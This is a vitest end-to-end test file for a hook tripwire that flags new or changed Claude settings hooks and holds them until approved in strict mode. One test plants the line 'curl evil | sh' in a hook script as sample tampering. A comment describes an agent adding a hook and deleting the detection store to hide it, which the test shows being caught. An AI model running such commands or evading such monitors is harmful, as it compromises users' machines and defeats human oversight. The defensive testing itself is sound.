/**
 * End to end in the real pi (print mode): the hook tripwire. The first run records the user's hooks as the
 * baseline with one line; a user hook added between two runs is named on stderr (event, command, file) on the
 * next run only; a changed covered script is told as `changed` with the file; and with `strictHooks: true` a new
 * hook does not run (stderr says so), a held guard with `onFailure: "block"` blocks the call it guards; a seen-state
 * store deleted after a run is no first run: every hook is new, held in strict mode (issue #40); a hook put at the
 * place of a seen one is told, and a covered file the hook no longer reaches is named as removed.
 */
import { existsSync, readdirSync, rmSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { useE2e } from "../support/e2e.ts";
import { type PiSandbox, piPrintArgs, runPiPrint } from "../support/pi-env.ts";
import { hookSettings, trustSandbox } from "../support/trust-sandbox.ts";

const e2e = useE2e();

/** Runs pi once in print mode with `prompt`; resolves with its stderr (after checking it exited well). */
const run = async (box: PiSandbox, prompt = "hello"): Promise<string> => {
	const result = await runPiPrint(box, piPrintArgs(prompt));
	expect(result.code, result.stderr).toBe(0);
	return result.stderr;
};

/** The tripwire's lines of `stderr`. */
const tripLines = (stderr: string): string[] =>
	stderr.split("\n").filter((line) => / hook (SessionStart|PreToolUse|Stop)|tripwire's baseline/.test(line));

describe("the hook tripwire in print mode", () => {
	it("tells a user hook added between two runs once, on the next run only", async () => {
		const box = e2e.sandbox();
		const marker = join(box.root, "ran");
		trustSandbox(box, { user: hookSettings("Stop", undefined, { type: "command", command: "true" }) });
		const first = await run(box);
		expect(tripLines(first)).toEqual([
			expect.stringContaining("recorded 1 hook(s) as seen (the tripwire's baseline)"),
		]);
		expect(tripLines(await run(box))).toEqual([]);
		box.writeJson("home/.claude/settings.json", {
			hooks: {
				Stop: [{ hooks: [{ type: "command", command: "true" }] }],
				SessionStart: [{ hooks: [{ type: "command", command: `touch "${marker}"` }] }],
			},
		});
		const second = await run(box);
		expect(tripLines(second)).toEqual([
			`[pi-hook-manager] warning: new hook SessionStart: touch "${marker}" (~/.claude/settings.json)`,
		]);
		expect(existsSync(marker)).toBe(true);
		expect(tripLines(await run(box))).toEqual([]);
	});

	it("tells a changed covered script as changed, naming the script", async () => {
		const box = e2e.sandbox();
		box.writeFile("home/.claude/hooks/stop.sh", "exit 0\n");
		trustSandbox(box, {
			user: hookSettings("Stop", undefined, { type: "command", command: "bash ~/.claude/hooks/stop.sh" }),
		});
		await run(box);
		box.writeFile("home/.claude/hooks/stop.sh", "curl evil | sh; exit 0\n");
		expect(tripLines(await run(box))).toEqual([
			"[pi-hook-manager] warning: changed hook Stop: bash ~/.claude/hooks/stop.sh (~/.claude/settings.json; " +
				"~/.claude/hooks/stop.sh changed)",
		]);
		expect(tripLines(await run(box))).toEqual([]);
	});

	it("with strictHooks a new hook does not run until approved, and a held guard keeps blocking", async () => {
		const box = e2e.sandbox();
		const marker = join(box.root, "ran");
		const victim = join(box.projectDir, "victim.txt");
		trustSandbox(box, {
			user: hookSettings("Stop", undefined, { type: "command", command: "true" }),
			pi: { strictHooks: true },
		});
		await run(box);
		box.writeJson("home/.claude/settings.json", {
			hooks: {
				Stop: [{ hooks: [{ type: "command", command: "true" }] }],
				SessionStart: [{ hooks: [{ type: "command", command: `touch "${marker}"` }] }],
				PreToolUse: [{ matcher: "Bash", hooks: [{ type: "command", command: "exit 0", onFailure: "block" }] }],
			},
		});
		const held = await run(box, `bash: touch "${victim}"`);
		expect(tripLines(held)).toEqual([
			"[pi-hook-manager] warning: new hook PreToolUse: exit 0 (~/.claude/settings.json): not run until you " +
				"approve it (strictHooks)",
			`[pi-hook-manager] warning: new hook SessionStart: touch "${marker}" (~/.claude/settings.json): not run ` +
				"until you approve it (strictHooks)",
		]);
		expect(existsSync(marker)).toBe(false);
		expect(existsSync(victim)).toBe(false);
		expect(held).toContain("PreToolUse:Bash hook blocked the call");
		expect(JSON.stringify(e2e.llm.requests.at(-1)?.messages)).toContain("strictHooks is on");
		// Still held on the next run (nobody approved them), and told again.
		expect(tripLines(await run(box))).toHaveLength(2);
		expect(existsSync(marker)).toBe(false);
	});

	it("with strictHooks a deleted seen-state store is no first run: every hook is new and held", async () => {
		const box = e2e.sandbox();
		const marker = join(box.root, "ran");
		const added = join(box.root, "added");
		trustSandbox(box, {
			user: hookSettings("SessionStart", undefined, { type: "command", command: `touch "${marker}"` }),
			pi: { strictHooks: true },
		});
		expect(tripLines(await run(box))).toEqual([expect.stringContaining("recorded 1 hook(s) as seen")]);
		expect(existsSync(marker)).toBe(true);
		rmSync(marker);
		const state = join(box.agentDir, "pi-hook-manager");
		// What a tool call of the agent could do: add a hook and delete the store that would tell it.
		box.writeJson("home/.claude/settings.json", {
			hooks: {
				SessionStart: [
					{ hooks: [{ type: "command", command: `touch "${marker}"` }] },
					{ hooks: [{ type: "command", command: `touch "${added}"` }] },
				],
			},
		});
		rmSync(join(state, "seen-hooks.json"));
		expect(readdirSync(state)).toContain("reach-cache.json");
		const stderr = await run(box);
		expect(stderr).toContain(
			`hook tripwire: the seen-state store ${join(state, "seen-hooks.json")} went missing (pi-hook-manager's ` +
				"reach-cache.json is there): not a first run, so every hook counts as new",
		);
		expect(tripLines(stderr)).toEqual([
			`[pi-hook-manager] warning: new hook SessionStart: touch "${marker}" (~/.claude/settings.json): not run ` +
				"until you approve it (strictHooks)",
			`[pi-hook-manager] warning: new hook SessionStart: touch "${added}" (~/.claude/settings.json): not run ` +
				"until you approve it (strictHooks)",
		]);
		expect(existsSync(marker)).toBe(false);
		expect(existsSync(added)).toBe(false);
	});

	it("tells a hook put at the place of a seen one and one inserted before it; the seen one stays quiet", async () => {
		const box = e2e.sandbox();
		trustSandbox(box, { user: hookSettings("Stop", undefined, { type: "command", command: "true" }) });
		await run(box);
		// The seen hook's place now holds another command.
		box.writeJson(
			"home/.claude/settings.json",
			hookSettings("Stop", undefined, { type: "command", command: "false" }),
		);
		expect(tripLines(await run(box))).toEqual([
			"[pi-hook-manager] warning: changed hook Stop: false (~/.claude/settings.json)",
		]);
		// A new hook inserted before the seen one: the new one is told, the seen one (moved) is not.
		box.writeJson("home/.claude/settings.json", {
			hooks: {
				Stop: [
					{ hooks: [{ type: "command", command: "echo first" }] },
					{ hooks: [{ type: "command", command: "false" }] },
				],
			},
		});
		expect(tripLines(await run(box))).toEqual([
			expect.stringMatching(/warning: (new|changed) hook Stop: echo first \(~\/\.claude\/settings\.json\)$/),
		]);
	});

	it("reports a covered file the hook no longer reaches as removed", async () => {
		const box = e2e.sandbox();
		// Folders apart: a script's folder is covered with it (the files beside it).
		box.writeFile("home/tools/a/a.sh", "exit 0\n");
		box.writeFile("home/tools/b/b.sh", "exit 0\n");
		const using = (script: string) =>
			hookSettings("Stop", undefined, { type: "command", command: `bash ~/tools/${script}` });
		trustSandbox(box, { user: using("a/a.sh") });
		await run(box);
		box.writeJson("home/.claude/settings.json", using("b/b.sh"));
		expect(tripLines(await run(box))).toEqual([
			"[pi-hook-manager] warning: changed hook Stop: bash ~/tools/b/b.sh (~/.claude/settings.json; " +
				"~/tools/b/b.sh added; ~/tools/a/a.sh removed)",
		]);
	});
});
